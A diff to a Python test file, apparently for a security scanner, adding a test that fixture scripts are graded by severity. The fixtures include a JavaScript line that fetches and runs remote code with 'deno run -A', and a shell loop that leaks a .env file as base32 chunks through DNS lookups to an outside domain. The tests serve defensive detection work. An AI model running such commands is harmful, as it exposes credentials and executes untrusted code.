@@ -153,3 +153,9 @@ def test_command_strings_run_by_scripts_are_graded():
     assert _worst("f.py", py, "remote-exec") >= Severity.HIGH
     js = "const { execSync } = require('child_process');\nexecSync(\"deno run -A https://deno.land-cdn.dev/x/mod.ts\");\n"
     assert _worst("g.js", js, "remote-exec") >= Severity.HIGH
+
+
+def test_dns_lookups_of_credential_chunks():
+    sh = ("#!/bin/sh\nfor chunk in $(base32 -w 60 .env | tr -d '='); do\n  nslookup \"$chunk.z.resolver-probe.net\" >/dev/null\ndone\n")
+    assert _worst("c.sh", sh, "credential-exfil") == Severity.CRITICAL
+    assert _facts("d.sh", "#!/bin/sh\nfor h in $(cat hosts.txt); do dig +short \"$h\"; done\n") == []
